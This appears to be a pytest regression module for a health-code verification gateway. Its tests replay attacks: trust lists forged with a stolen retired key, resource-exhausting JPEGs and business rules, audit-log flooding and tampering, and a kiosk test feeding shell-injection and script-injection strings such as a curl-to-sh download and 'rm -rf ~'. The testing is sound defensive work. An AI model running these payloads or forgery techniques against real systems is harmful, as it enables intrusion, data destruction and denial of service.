"""Issue 19: the attacker came back.  Each test is an attack that worked against a running
gateway (or its CLI, or its pages) after the second round of fixes, run as it was found, and
refused or bounded since.

* a national key retired by ``keys rotate national`` still signed trust lists that offline
  verifiers accepted — with the thief's own regional key and a far-future ``seq`` that then
  had every genuine list refused as "older";
* ten imported EU business rules, each within every per-rule limit, held one anonymous scan for
  seconds (the search for when a test's green ends re-ran each ~14 times);
* a progressive JPEG of thousands of scans took 40 s to decode and held both decode slots, so a
  genuine photo meanwhile was "busy";
* a kiosk token past its limit (429) and an auditor token on the kiosk endpoint (403) wrote an
  audit entry per refusal, without bound (the cap was for callers without a token only);
* the kiosk page showed staff a shell command built from the address's ``kiosk_id``;
* an audit row rewritten with duplicate JSON members still verified (the chain read the last member,
  the ops figures the first);
* 140 000 EU revocation hashes made a signed trust list no verifier accepts: whether a changed list
  still fits is now measured before it is signed (the write paths that call it are the service's).

Security headers on pages and API answers are tested in tests/test_pages_csp.py.
"""
from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from residents import BJ_ADULT, GD_ELDER
from support.cli import add_credential, run_cli
from support.live import LiveServer, call, config_with_limits

BJ = BJ_ADULT.id_and_name
GD = GD_ELDER.id_and_name


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A threaded gateway with small kiosk limits, and a token per role."""
    data = tmp_path_factory.mktemp("returning")
    config = config_with_limits(data, kiosk_lookups_per_minute=4)
    config.write_text(config.read_text(encoding="utf-8").replace('country_of_arrival = "CN"', 'country_of_arrival = "DE"'),
                      encoding="utf-8")                                 # EU business rules for Germany decide
    env = {"HEALTHCODE_CONFIG": str(config)}
    for region, (id_number, name) in (("110000", BJ), ("440000", GD)):
        run_cli("issue", "--region", region, "--id-number", id_number, "--name", name, data_dir=data,
                check=True, env=env)
    server = LiveServer(data, env)
    server.env = env

    def token(role, principal, *extra):
        return add_credential(role, principal, *extra, data_dir=data, env=env)

    server.cred = {"kiosk": token("kiosk", "kiosk-r", "--kiosk-id", "bj-station-1"),
                   "operator": token("operator", "op-r"), "dm": token("data_manager", "dm-r"),
                   "auditor": token("auditor", "aud-r")}
    yield server
    server.stop()


def cli(world, *args):
    return run_cli(*args, data_dir=world.data, env=world.env)


# --- 1. a retired national key ----------------------------------------------------------------------
def stolen_national_signer(data: Path):
    """The national key as a backup taken before rotation holds it: the active one, now."""
    from issuers.keys import KeyStore
    return KeyStore(data).signer("national")


def forged_list_and_code(world, signer, iat: int, seq: int, exp: int):
    """What the thief signs with the old national key: the genuine list plus their own Beijing
    key, and a green code under that key."""
    import adapters
    from issuers.keys import Signer
    from standard import jose, trustlist
    genuine = call(world, "GET", "/v1/trust-list").json()
    own = jose.generate_private_key("ES256")
    kid = "thief-" + jose.short_kid(jose.public_jwk(own))
    payload = json.loads(json.dumps(genuine["trust_list"]))
    beijing = next(i for i in payload["issuers"] if i["region"] == "110000")
    beijing["keys"].append({**jose.public_jwk(own), "kid": kid, "alg": "ES256", "use": "sig",
                            "status": "active", "nbf": iat - 60})
    payload.update(iat=iat, seq=seq, exp=exp)
    token = trustlist.sign(payload, signer)
    red = cli(world, "issue", "--region", "110000", "--id-number", BJ[0], "--name", BJ[1], "--status", "red",
              "--kind", "offline").stdout.strip()
    adapter = adapters.get("jiankangbao")
    claims = adapter.verify(red, trustlist.TrustList(genuine["trust_list"]), int(time.time())).claims
    claims = {**claims, "status": "green", "reasons": [], "iat": iat, "exp": min(exp, iat + 86400)}
    return token, adapter.encode(claims, Signer("110000", kid, "ES256", own))


def offline(world, code, listed: Path, keys: Path, state: Path):
    return cli(world, "verify", code, "--trust-list", str(listed), "--national-keys", str(keys), "--state", str(state))


def test_a_retired_national_key_signs_no_list_after_its_retirement(world, tmp_path):
    old = stolen_national_signer(world.data)
    rotated = call(world, "POST", "/v1/admin/keys/national/rotate", "dm")
    assert rotated.status_code == 200 and rotated.json()["kid"] != old.kid
    keys = tmp_path / "national.json"
    keys.write_text(json.dumps(call(world, "GET", "/v1/trust-list/national-keys").json()))
    retired = next(k for k in json.loads(keys.read_text())["keys"] if k["kid"] == old.kid)
    assert retired["status"] == "retired" and isinstance(retired["retired_at"], int)
    state, listed = tmp_path / "seen.json", tmp_path / "forged.jws"
    after = retired["retired_at"] + 30
    # signed after the retirement, with a far-future seq: refused, and nothing remembered
    token, green = forged_list_and_code(world, old, after, after + 10 ** 9, after + 7 * 86400)
    listed.write_text(token)
    out = offline(world, green, listed, keys, state)
    assert out.returncode == 2 and "retired before this list was issued" in out.stderr, out.stderr
    assert not state.exists()
    # backdated to before the retirement: its seq may not run ahead, nor its life past 7 days
    back = retired["retired_at"] - 5
    for seq, exp, why in ((back + 10 ** 9, back + 7 * 86400, "seq is far ahead of its iat"),
                          (back, back + 365 * 86400, "would live longer than 7 days")):
        token, green = forged_list_and_code(world, old, back, seq, exp)
        listed.write_text(token)
        out = offline(world, green, listed, keys, state)
        assert out.returncode == 2 and why in out.stderr, out.stderr
    # the genuine list, under the new key, still verifies a genuine code
    genuine = tmp_path / "genuine.jws"
    genuine.write_text(call(world, "GET", "/v1/trust-list").json()["jws"])
    code = cli(world, "issue", "--region", "440000", "--id-number", GD[0], "--name", GD[1], "--kind",
               "offline").stdout.strip()
    assert offline(world, code, genuine, keys, state).returncode == 0


def test_a_future_dated_list_is_refused_and_a_far_ahead_seq_locks_nothing_out(world, tmp_path):
    keys, state, listed = tmp_path / "national.json", tmp_path / "seen.json", tmp_path / "list.jws"
    keys.write_text(json.dumps(call(world, "GET", "/v1/trust-list/national-keys").json()))
    now = int(time.time())
    token, green = forged_list_and_code(world, stolen_national_signer(world.data), now + 3 * 86400,
                                        now + 3 * 86400, now + 5 * 86400)
    listed.write_text(token)                          # even the active key cannot date a list ahead
    out = offline(world, green, listed, keys, state)
    assert out.returncode == 2 and "issued in the future" in out.stderr, out.stderr
    import standard
    later = cli(world, "verify", green, "--trust-list", str(listed), "--national-keys", str(keys), "--state",
                str(state), "--at", standard.rfc3339(now + 4 * 86400))     # --at judges the code, not the list
    assert later.returncode == 2 and "issued in the future" in later.stderr, later.stderr
    # a verifier that accepted a far-future seq before these rules is not locked out for ever
    state.write_text(json.dumps({"seq": now + 10 ** 9}))
    listed.write_text(call(world, "GET", "/v1/trust-list").json()["jws"])
    code = cli(world, "issue", "--region", "440000", "--id-number", GD[0], "--name", GD[1], "--kind",
               "offline").stdout.strip()
    assert offline(world, code, listed, keys, state).returncode == 0
    assert json.loads(state.read_text())["seq"] <= now + 3600


def test_the_checkpoint_page_applies_the_same_rules_to_national_keys(world):
    """In Chromium: the page's own check of a cached list refuses what the CLI refuses, and a
    far-future seq it remembered from before does not keep it from loading the genuine list."""
    from support.browser import chromium, wait_for
    old = stolen_national_signer(world.data)
    assert call(world, "POST", "/v1/admin/keys/national/rotate", "dm").status_code == 200
    retired_at = next(k for k in call(world, "GET", "/v1/trust-list/national-keys").json()["keys"]
                      if k["kid"] == old.kid)["retired_at"]
    after, back, now = retired_at + 30, retired_at - 5, int(time.time())
    forged = {
        "retired before this list was issued": forged_list_and_code(world, old, after, after, after + 86400)[0],
        "seq is far ahead of its iat": forged_list_and_code(world, old, back, back + 10 ** 9, back + 86400)[0],
        "would live longer than 7 days": forged_list_and_code(world, old, back, back, back + 365 * 86400)[0],
        "issued in the future": forged_list_and_code(world, stolen_national_signer(world.data), now + 3 * 86400,
                                                     now + 3 * 86400, now + 5 * 86400)[0],
    }
    genuine = call(world, "GET", "/v1/trust-list").json()
    driver = chromium()
    try:
        driver.get(world.url + "/checkpoint")
        wait_for(driver, lambda d: d.execute_script("return document.body.dataset.trust") == "ready")

        def load(jws, min_seq=0):
            return driver.execute_async_script(
                "const done = arguments[arguments.length - 1];"
                "HCOffline.loadTrustList(arguments[0], NATIONAL_KEYS, Math.floor(Date.now() / 1000), arguments[1])"
                ".then((t) => done({seq: t.seq}), (e) => done({code: e.code, message: e.message}))", jws, min_seq)

        for why, token in forged.items():
            refused = load(token)
            assert refused.get("code") == "trust_list_invalid" and why in refused["message"], (why, refused)
        assert load(genuine["jws"]) == {"seq": genuine["seq"]}
        assert "older" in load(genuine["jws"], genuine["seq"] + 1)["message"]          # replay still refused
        assert load(genuine["jws"], now + 10 ** 9) == {"seq": genuine["seq"]}         # no lock-out
        driver.execute_script("localStorage.setItem('hc.trustSeq', arguments[0])", str(now + 10 ** 9))
        driver.get(world.url + "/checkpoint")
        wait_for(driver, lambda d: d.execute_script("return document.body.dataset.trust") == "ready")
        assert int(driver.execute_script("return localStorage.getItem('hc.trustSeq')")) <= now + 3600
    finally:
        driver.quit()


# --- 8. the kiosk page's staff hint ------------------------------------------------------------------
@pytest.mark.parametrize("kiosk_id", ["k1;curl http://203.0.113.9/x|sh;#", "k1 $(reboot)", "k1\nrm -rf ~", "`id`",
                                      "</script><script>window.__ran=1</script>"])
def test_the_kiosk_shows_a_shell_command_only_for_a_credential_id(world, kiosk_id):
    from urllib.parse import quote
    from selenium.webdriver.common.by import By
    from support.browser import chromium, wait_for
    driver = chromium()
    try:
        driver.get(f"{world.url}/kiosk?kiosk_id={quote(kiosk_id)}")
        hint = wait_for(driver, lambda d: d.find_element(By.ID, "staff"))
        wait_for(driver, lambda d: hint.is_displayed())
        assert "healthcode credentials add" not in hint.text and "curl" not in hint.text
        assert "not a valid id" in hint.text
        assert driver.execute_script("return window.__ran") is None          # data, never a script
        driver.get(f"{world.url}/kiosk?kiosk_id=bj-station-2")                 # a real id: the command
        hint = wait_for(driver, lambda d: d.find_element(By.ID, "staff"))
        assert "healthcode credentials add --role kiosk --id bj-station-2 --kiosk-id bj-station-2" in hint.text
    finally:
        driver.quit()


# --- 7. the audit chain's bytes ----------------------------------------------------------------------
def test_an_audit_row_rewritten_with_duplicate_members_breaks_the_chain(tmp_path):
    """Prepending a member to a stored row changes what SQLite's ``json_extract`` (the ops
    figures) reads, while Python's parser, keeping the last, still hashed the original."""
    import sqlite3
    data = tmp_path / "audit"
    for region, (id_number, name) in (("110000", BJ), ("440000", GD)):
        run_cli("issue", "--region", region, "--id-number", id_number, "--name", name, data_dir=data, check=True)
    intact = run_cli("audit", "verify", data_dir=data)
    assert intact.returncode == 0 and json.loads(intact.stdout)["intact"]
    with sqlite3.connect(data / "healthcode.sqlite3") as conn:
        seq, text = conn.execute("SELECT seq, entry FROM audit_log ORDER BY seq LIMIT 1").fetchone()
        action = json.loads(text)["action"]
        forged = '{"action":"seal_key_rotate","result":"refused",' + text[1:]
        conn.execute("UPDATE audit_log SET entry = ? WHERE seq = ?", (forged, seq))
        seen = conn.execute("SELECT json_extract(entry, '$.action') FROM audit_log WHERE seq = ?", (seq,)).fetchone()
    assert seen == ("seal_key_rotate",) and action != "seal_key_rotate"        # what the figures now count
    broken = run_cli("audit", "verify", data_dir=data)
    report = json.loads(broken.stdout)
    assert broken.returncode == 1 and not report["intact"] and report["broken_at"] == seq, report
    assert "duplicate JSON members (action, result)" in report["problem"]


# --- 6. refusals of callers with a credential ---------------------------------------------------------
def audit_top(data) -> int:
    import sqlite3
    with sqlite3.connect(data / "healthcode.sqlite3") as db:
        return db.execute("SELECT max(seq) FROM audit_log").fetchone()[0]


def audit_since(data, seq: int) -> list[dict]:
    import sqlite3
    with sqlite3.connect(data / "healthcode.sqlite3") as db:
        return [json.loads(row[0]) for row in db.execute("SELECT entry FROM audit_log WHERE seq > ?", (seq,))]


def unlogged(metrics: str, action: str, result: str) -> float:
    line = f'healthcode_refusals_unlogged_total{{action="{action}",result="{result}"}} '
    return next((float(row.split()[-1]) for row in metrics.splitlines() if row.startswith(line)), 0.0)


@pytest.fixture
def settings(data_dir, tmp_path, monkeypatch):
    """The in-process gateway's settings in this module: kiosk lookups limited to 4 a minute (the
    CLI reads the same configuration: run_cli passes the environment on)."""
    config = config_with_limits(tmp_path, kiosk_lookups_per_minute=4)
    monkeypatch.setenv("HEALTHCODE_CONFIG", str(config))
    from config.settings import load_settings
    return load_settings(data_dir=data_dir)


@pytest.mark.slow
def test_a_credential_cannot_flood_the_audit_log_with_its_refusals(http, clock, data_dir):
    """A kiosk token past its per-minute limit and an auditor token on the kiosk endpoint: each
    writes at most 30 refusals a minute and one note that the cap was reached; the rest are
    counted in /metrics, and each still gets its refusal."""
    run_cli("issue", "--region", "110000", "--id-number", BJ[0], "--name", BJ[1], data_dir=data_dir, check=True)

    def token(role, principal, *extra):
        return {"Authorization": "Bearer " + add_credential(role, principal, *extra, data_dir=data_dir)}

    as_ = {"kiosk": token("kiosk", "kiosk-r", "--kiosk-id", "bj-station-1"), "operator": token("operator", "op-r"),
           "auditor": token("auditor", "aud-r")}

    def metrics() -> str:
        return http.get("/metrics", headers=as_["operator"]).get_data(as_text=True)

    clock.to_minute_start()                                    # the cap counts per minute
    top = audit_top(data_dir)
    before = {"kiosk": unlogged(metrics(), "kiosk_lookup", "rate_limited"),
              "auditor": unlogged(metrics(), "kiosk_lookup", "forbidden")}
    body = {"id_number": BJ[0], "name": BJ[1], "kiosk_id": "bj-station-1"}
    kiosk = [http.post("/v1/kiosk/lookup", json=body, headers=as_["kiosk"]).status_code for _ in range(80)]
    auditor = [http.post("/v1/kiosk/lookup", json=body, headers=as_["auditor"]).status_code for _ in range(80)]
    assert kiosk == [200] * 4 + [429] * 76 and auditor == [403] * 80
    written = audit_since(data_dir, top)
    mine = {role: [e for e in written if e["actor"]["role"] == role] for role in ("kiosk", "auditor")}
    assert [e["result"] for e in mine["kiosk"]] == ["ok"] * 4 + ["rate_limited"] * 30 + ["rate_limited"]
    assert mine["kiosk"][-1]["action"] == "audit_capped" and mine["kiosk"][-1]["detail"] == \
        {"refused_action": "kiosk_lookup", "limit": 30}
    assert [e["result"] for e in mine["auditor"]] == ["forbidden"] * 30 + ["rate_limited"]
    assert mine["auditor"][-1]["action"] == "audit_capped"
    assert unlogged(metrics(), "kiosk_lookup", "rate_limited") - before["kiosk"] == 76 - 30
    assert unlogged(metrics(), "kiosk_lookup", "forbidden") - before["auditor"] == 80 - 30
    clock.advance(60)                                          # the next minute: served and logged again
    top = audit_top(data_dir)
    assert http.post("/v1/kiosk/lookup", json=body, headers=as_["kiosk"]).status_code == 200
    assert [e["result"] for e in audit_since(data_dir, top) if e["actor"]["role"] == "kiosk"] == ["ok"]


# --- 4. a work budget for the business rules of one scan -------------------------------------------------
def hostile_rule(number: int) -> dict:
    """Inside every per-rule limit (63 000 CertLogic steps of the 200 000 one rule may take), it
    passes for a fresh test and reads the clock, so the search for when the green ends re-runs it
    ~14 times: ten of them took one anonymous scan 31 s."""
    from support.dcc import country_rules
    heavy = {"reduce": [{"var": "external.valueSets.country-2-codes"},
                        {"reduce": [{"var": "data.external.valueSets.country-2-codes"}, {"var": "accumulator"}, 0]}, 0]}
    fresh = {"not-after": [{"plusTime": [{"var": "external.validationClock"}, 0, "day"]},
                           {"plusTime": [{"var": "payload.t.0.sc"}, 72, "hour"]}]}
    return {**country_rules("DE")[0], "Identifier": f"GR-DE-{100 + number:04d}", "CertificateType": "General",
            "Logic": {"and": [{"===": [heavy, 0]}, fresh]}}


def test_hostile_business_rules_cannot_hold_a_scan(world):
    from support.dcc import DAY, country_rules, dcc_test, issue, signer, value_set_documents
    from adapters import eu_dcc
    now = int(time.time())
    key, der, anchor = signer(at=now)
    assert call(world, "POST", "/v1/admin/anchors", "dm", json={"anchors": [anchor["der_b64"]]}).status_code == 201
    assert call(world, "POST", "/v1/admin/dcc-value-sets", "dm",
                json={"value_sets": value_set_documents()}).status_code == 201
    negative = issue(key, der, dcc_test(now - 3600), iat=now - 3600, exp=now + 30 * DAY)
    positive = issue(key, der, dcc_test(now - 3600, eu_dcc.TEST_DETECTED), iat=now - 3600, exp=now + 30 * DAY)
    real = call(world, "POST", "/v1/admin/dcc-rules", "dm", json={"country": "DE", "rules": country_rules("DE")})
    assert real.status_code == 201, real.text
    genuine = call(world, "POST", "/v1/verify", json={"payload": negative}).json()
    assert genuine["status"] == "green" and genuine["details"]["business_rules"]["failed"] == []   # in budget
    ten = call(world, "POST", "/v1/admin/dcc-rules", "dm",
               json={"country": "DE", "rules": country_rules("DE") + [hostile_rule(n) for n in range(10)]})
    assert ten.status_code == 201, ten.text                            # each rule is within every limit
    for code in (negative, positive):
        verdict = call(world, "POST", "/v1/verify", json={"payload": code}).json()
        assert not verdict["valid"] and verdict["status"] is None, verdict        # fails closed
        assert verdict["errors"][0]["code"] == "rules_budget_exceeded", verdict
    batch = call(world, "POST", "/v1/verify/batch", json={"items": [{"payload": negative}] * 3}).json()
    assert [r["errors"][0]["code"] for r in batch["results"]] == ["rules_budget_exceeded"] * 3
    remove = call(world, "DELETE", "/v1/admin/dcc-rules/DE", "dm")
    assert remove.status_code == 200, remove.text
    assert call(world, "POST", "/v1/verify", json={"payload": negative}).json()["status"] == "green"


# --- 5. decoding work per image ------------------------------------------------------------------------
def jpeg_segments(data: bytes) -> list[tuple[int, int, int]]:
    """(marker, start, end) of each JPEG segment, a scan's entropy-coded data included."""
    out, pos = [], 2
    while pos < len(data):
        marker = data[pos + 1]
        if marker == 0xD9:
            out.append((marker, pos, pos + 2))
            break
        end = pos + 2 + int.from_bytes(data[pos + 2:pos + 4], "big")
        if marker == 0xDA:
            while True:
                end = data.index(b"\xff", end)
                if data[end + 1] == 0 or 0xD0 <= data[end + 1] <= 0xD7:
                    end += 2
                    continue
                break
        out.append((marker, pos, end))
        pos = end
    return out


def progressive_jpeg(image, extra_scans: int = 0) -> bytes:
    """``image`` as a progressive JPEG, its last scan repeated ``extra_scans`` times (decoders
    run every scan; a repeated refinement scan is decoded again each time)."""
    import io
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", progressive=True, quality=40)
    data = buffer.getvalue()
    _, start, end = [s for s in jpeg_segments(data) if s[0] == 0xDA][-1]
    return data[:end] + data[start:end] * extra_scans + data[end:]


def test_a_progressive_jpeg_of_thousands_of_scans_costs_little_and_starves_nobody(world):
    import base64
    import io
    from concurrent.futures import ThreadPoolExecutor
    from PIL import Image
    from adapters import qr
    bomb = progressive_jpeg(Image.new("L", (4000, 4000), 255), extra_scans=3000)
    assert len(bomb) < 1_000_000 and bomb.count(b"\xff\xda") > 3000
    code = cli(world, "issue", "--region", "440000", "--id-number", GD[0], "--name", GD[1]).stdout.strip()
    photo = Image.open(io.BytesIO(qr.render_png(code, box_size=8))).convert("RGB").resize((900, 900))
    genuine = progressive_jpeg(photo)                       # an encoder's own progressive script
    assert 2 <= genuine.count(b"\xff\xda") <= 12

    def scan(data):
        return call(world, "POST", "/v1/verify", json={"image_b64": base64.b64encode(data).decode()}).json()

    refused = scan(bomb)
    assert not refused["valid"] and refused["errors"][0]["code"] == "payload_too_large", refused
    assert "scans" in refused["errors"][0]["message"]
    with ThreadPoolExecutor(6) as pool:                   # four bombs at once, a real photo among them
        bombs = [pool.submit(scan, bomb) for _ in range(4)]
        real = pool.submit(scan, genuine)
        assert real.result()["valid"] and real.result()["status"] == "green", real.result()
        assert [b.result()["errors"][0]["code"] for b in bombs] == ["payload_too_large"] * 4


# --- 3 (the part outside the service): will a changed list still fit? ------------------------------------
def test_a_trust_list_change_is_measured_before_it_is_signed(world):
    """140 000 EU revocation hashes (under the 200 000-entry cap) made the signed list larger
    than any verifier accepts; :func:`trustlist.check_fits` tells so before a write."""
    import base64
    import hashlib
    from issuers.keys import KeyStore
    from standard import trustlist
    from standard.errors import TrustListFull
    payload = call(world, "GET", "/v1/trust-list").json()["trust_list"]
    hashes = [base64.b64encode(hashlib.sha256(str(i).encode()).digest()[:16]).decode() for i in range(140_000)]
    big = {**payload, "foreign_revocations": {"eu_dcc": {"DE": {"UCI": hashes}}}}
    keys = KeyStore(world.data / "fresh-keys")
    for alg, body in (("ES256", payload), ("EdDSA", {**payload, "revoked_jti": hashes[:20_000]})):
        signer = keys.rotate("national", alg)
        size = len(trustlist.sign(body, signer))
        assert size <= trustlist.signed_chars(body) <= size + 300            # never under, barely over
    assert trustlist.fits(payload) and not trustlist.fits(big)
    trustlist.check_fits(payload)
    with pytest.raises(TrustListFull) as refused:
        trustlist.check_fits(big, "importing this revocation list")
    assert refused.value.code == "trust_list_full" and "importing this revocation list" in refused.value.message
    assert len(trustlist.sign(big, keys.signer("national"))) > trustlist.MAX_TRUST_LIST_CHARS   # it really would not


def test_re_signing_in_a_loop_never_runs_seq_out_of_what_verifiers_accept(tmp_path):
    """Thousands of re-signs (revocations in a loop) add one to seq each: past half the lead
    verifiers allow, each waits a second, so the gateway never signs a list its verifiers (and
    it itself) refuse."""
    from gateway import trustseq
    from standard import trustlist
    waits, path, now = [], tmp_path / "trust-list.seq", 1_800_000_000
    assert [trustseq.next_seq(path, now, sleep=waits.append) for _ in range(3)] == [now, now + 1, now + 2]
    assert waits == []
    path.write_text(str(now + trustseq.AHEAD_LIMIT))
    assert trustseq.next_seq(path, now, sleep=waits.append) == now + trustseq.AHEAD_LIMIT + 1
    assert waits == [1] and trustseq.AHEAD_LIMIT + 1 < trustlist.SEQ_LEAD
    clock, path = [now], tmp_path / "burst.seq"          # a burst of re-signs, the clock moving with the waits
    for _ in range(5000):
        iat = clock[0]
        seq = trustseq.next_seq(path, iat, sleep=lambda s: clock.__setitem__(0, clock[0] + s))
        assert seq - iat <= trustseq.AHEAD_LIMIT + 1 < trustlist.SEQ_LEAD            # what parse checks
